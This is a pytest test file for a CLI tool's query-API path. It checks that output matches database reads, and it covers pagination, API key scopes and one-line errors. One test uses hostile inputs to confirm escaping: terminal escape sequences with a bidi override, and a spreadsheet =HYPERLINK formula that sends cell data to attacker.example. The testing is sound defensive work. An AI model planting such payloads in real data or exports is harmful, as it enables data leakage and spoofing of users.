"""`glia runs` and `glia show` through the query API (GLIA_API_URL, GLIA_API_KEY), as on a compute node with the
client alone: the same runs, formats and escaping as reading the database, byte for byte, and errors in one line.

Every call through the API runs with GLIA_DATABASE_URL pointing at a port nothing listens on: the API path must not
touch a database.
"""

from __future__ import annotations

import os
import re
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

import pytest

from glia_otel._cli import main
from tests.conftest import REPO, ReceiverServer
from tests.helpers import MS, RUN, SPAN_A, otlp_span, post_spans, run_id, seed_runs

Result = tuple[int, str, str]
NOWHERE = "postgresql://glia@127.0.0.1:9/nowhere"
HOSTILE_NAME = "\x1b]0;owned\x07\x1b[2J\x9b31mrun\u202eevil"
HOSTILE_SERVICE = '=HYPERLINK("http://attacker.example/?"&A1,"click me")'
RAW = ["\x1b", "\x07", "\x9b", "\u202e"]


@pytest.fixture
def glia(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, database_url: str) -> Any:
    """`glia.db(*argv)` reads this test's database, `glia.api(url, *argv, key=None)` the query API at `url`."""
    for name in ("GLIA_API_URL", "GLIA_API_KEY", "GLIA_DATABASE_URL"):
        monkeypatch.delenv(name, raising=False)

    def call(argv: list[str]) -> Result:
        capsys.readouterr()  # what an earlier call printed before argparse ended it
        code = main(argv)
        out, err = capsys.readouterr()
        return code, out, err

    class Glia:
        @staticmethod
        def db(*argv: str) -> Result:
            return call([*argv, "--database-url", database_url])

        @staticmethod
        def api(url: str, *argv: str, key: str | None = None) -> Result:
            with monkeypatch.context() as m:
                m.setenv("GLIA_API_URL", url)
                m.setenv("GLIA_DATABASE_URL", NOWHERE)
                if key is not None:
                    m.setenv("GLIA_API_KEY", key)
                return call(list(argv))

    return Glia()


@pytest.fixture
def seeded(database_url: str, receiver: ReceiverServer) -> ReceiverServer:
    seed_runs(database_url)
    return receiver


CASES = [
    ["runs"],
    ["runs", "--program", "prog-07", "--limit", "2"],
    ["runs", "--status", "error", "--host", "node01", "--format", "json", "--limit", "500"],
    ["runs", "--attr", "pipeline=chipseq", "--attr", "sample=S6", "--format", "csv"],
    ["runs", "--user", "ada", "--exit-code", "0", "--sort=-wall_seconds", "--limit", "7", "--format", "csv"],
    ["runs", "--since", "2000-01-01T00:00:00Z", "--until", "2999-01-01", "--sort", "peak_rss_bytes", "--limit", "3"],
    ["runs", "--program", "no-such-program"],
    ["runs", "--since", "last tuesday"],
    ["show", run_id(9)],
    ["show", run_id(9), "--format", "json"],
    ["show", "0123456789abcdef"],
    ["show", "not-a-run-id"],
    ["runs", "--limit", "501"],
]


def test_the_api_prints_what_the_database_prints(seeded: ReceiverServer, glia: Any) -> None:
    # one seeded database for every case: seeding is most of the cost
    for argv in CASES:
        try:
            want = glia.db(*argv)
        except SystemExit as exc:  # argparse: the API path must refuse the same options the same way
            with pytest.raises(SystemExit) as refused:
                glia.api(seeded.url, *argv)
            assert refused.value.code == exc.code, argv
            continue
        got = glia.api(seeded.url, *argv)
        assert got == want, argv
        assert want[1] or want[2], argv  # the case printed something


def test_the_next_page_through_the_api(seeded: ReceiverServer, glia: Any) -> None:
    code, first, err = glia.api(seeded.url, "runs", "--program", "prog-07", "--limit", "2")
    assert code == 0 and [line.split()[0] for line in first.splitlines()[1:]] == [run_id(7), run_id(57)]
    cursor = err.strip().rpartition("--cursor ")[2]
    assert err.strip() == f"more: glia runs ... --cursor {cursor}"
    code, second, err = glia.api(seeded.url, "runs", "--program", "prog-07", "--limit", "2", "--cursor", cursor)
    assert code == 0 and err == ""
    assert [line.split()[0] for line in second.splitlines()[1:]] == [run_id(107)]
    assert glia.db("runs", "--program", "prog-07", "--limit", "2", "--cursor", cursor) == (0, second, "")


def test_hostile_text_is_escaped_through_the_api_as_from_the_database(receiver: ReceiverServer, glia: Any) -> None:
    t0 = time.time_ns()
    post_spans(
        receiver,
        otlp_span(RUN, None, HOSTILE_NAME, t0, note="\x1b[8mhidden\u202e"),
        otlp_span(SPAN_A, RUN, "\x1b]0;child\x07", t0 + 1 * MS),
        service=HOSTILE_SERVICE,
    )
    for argv in (
        ["runs"],
        ["runs", "--format", "csv"],
        ["runs", "--format", "json"],
        ["show", RUN],
        ["show", RUN, "--format", "json"],
    ):
        got = glia.api(receiver.url, *argv)
        assert got[0] == 0 and not any(c in got[1] for c in RAW), (argv, got)
        assert got == glia.db(*argv), argv


def test_a_read_key_in_glia_api_key(
    receiver_factory: Callable[..., ReceiverServer], database_url: str, glia: Any
) -> None:
    seed_runs(database_url, n=3)
    code, read_key, _ = glia.db("keys", "create", "node", "--scope", "read")
    assert code == 0
    code, ingest_key, _ = glia.db("keys", "create", "job", "--scope", "ingest")
    assert code == 0
    receiver = receiver_factory(key_cache_seconds=0)

    code, out, err = glia.api(receiver.url, "runs")
    assert (code, out) == (1, "")
    assert err.count("\n") == 1 and "401" in err and "GLIA_API_KEY" in err and "read key" in err, err
    code, out, err = glia.api(receiver.url, "runs", key=ingest_key.strip())
    assert (code, out) == (1, "")
    assert "403" in err and "GLIA_API_KEY" in err and ingest_key.strip() not in err, err
    code, out, err = glia.api(receiver.url, "show", run_id(1), key="glia_not-a-key")
    assert code == 1 and "401" in err, err

    assert glia.api(receiver.url, "runs", "--format", "json", key=read_key.strip()) == glia.db(
        "runs", "--format", "json"
    )
    assert glia.api(receiver.url, "show", run_id(2), key=read_key.strip()) == glia.db("show", run_id(2))


def test_errors_are_one_line(receiver: ReceiverServer, glia: Any) -> None:
    # nothing listens there
    code, out, err = glia.api("http://127.0.0.1:9", "runs")
    assert (code, out) == (1, "") and err.startswith("glia runs: cannot reach the query API at http://127.0.0.1:9")
    assert err.count("\n") == 1 and "GLIA_API_URL" in err
    # a server that is not the receiver's API (a path under which nothing is served)
    code, out, err = glia.api(f"{receiver.url}/elsewhere", "runs")
    assert (code, out) == (1, "") and "404" in err and "GLIA_API_URL" in err and err.count("\n") == 1, err
    code, out, err = glia.api(f"{receiver.url}/elsewhere", "show", RUN)
    assert (code, out) == (1, "") and "404" in err and "no run" not in err, err
    # not a URL at all
    code, out, err = glia.api("ftp://example.org", "runs")
    assert (code, out) == (2, "") and "GLIA_API_URL" in err and "http" in err, err
    # a parameter the API refuses: named as the option it came from
    code, out, err = glia.api(receiver.url, "runs", "--attr", "no-equals-sign")
    assert (code, out) == (2, "") and err.startswith("glia runs: --attr: ") and err.count("\n") == 1, err
    code, _, err = glia.api(receiver.url, "runs", "--since", "2026-01-02", "--until", "2026-01-01")
    assert code == 2 and err.startswith("glia runs: --until: must be later than since"), err


def test_a_trailing_slash_in_the_url_is_fine(receiver: ReceiverServer, glia: Any) -> None:
    post_spans(receiver, otlp_span(RUN, None, "plain", time.time_ns()))
    code, out, _ = glia.api(receiver.url + "/", "runs", "--format", "json")
    assert code == 0 and RUN in out


def test_an_explicit_database_url_reads_the_database(receiver: ReceiverServer, glia: Any, database_url: str) -> None:
    post_spans(receiver, otlp_span(RUN, None, "plain", time.time_ns()))
    # the option beats the environment: with GLIA_API_URL pointing nowhere, --database-url still reads the database
    code, out, err = glia.api("http://127.0.0.1:9", "runs", "--database-url", database_url)
    assert code == 0 and RUN in out, err


@pytest.mark.parametrize("command", ["runs", "show"])
def test_both_paths_take_the_same_options(
    command: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def options() -> set[str]:
        capsys.readouterr()
        with pytest.raises(SystemExit) as done:
            main([command, "--help"])
        assert done.value.code == 0
        text = capsys.readouterr().out
        # each option with its choices, if it has any: `--sort {-started_at,...}`
        return set(re.findall(r"--[\w-]+(?: \{[^}]*\})?", text.partition("options:")[2]))

    monkeypatch.delenv("GLIA_API_URL", raising=False)
    database = options()
    monkeypatch.setenv("GLIA_API_URL", "http://127.0.0.1:9")
    api = options()
    assert database - api == {"--database-url", "--data-dir"}
    assert api - database == set()
    assert "--format {table,json,csv,parquet}" in api if command == "runs" else "--format {text,json}" in api


@pytest.mark.parametrize(("signum", "name"), [(signal.SIGINT, "SIGINT"), (signal.SIGTERM, "SIGTERM")])
def test_a_signal_abandons_the_request_in_one_line(signum: int, name: str) -> None:
    with socket.socket() as silent:  # accepts the connection (the kernel does) and never answers
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        env = {k: v for k, v in os.environ.items() if not k.startswith("GLIA_")}
        env["GLIA_API_URL"] = f"http://127.0.0.1:{silent.getsockname()[1]}"
        process = subprocess.Popen(
            [sys.executable, "-m", "glia_otel._cli", "runs"], env=env, cwd=REPO, stderr=subprocess.PIPE, text=True
        )
        try:
            conn, _ = silent.accept()  # the request is on its way: glia waits for the answer
            with conn:
                time.sleep(0.2)
                process.send_signal(signum)
                _, err = process.communicate(timeout=20)
        finally:
            process.kill()
    assert process.returncode == 128 + signum
    assert err == f"glia runs: interrupted by {name}; the request was abandoned\n"
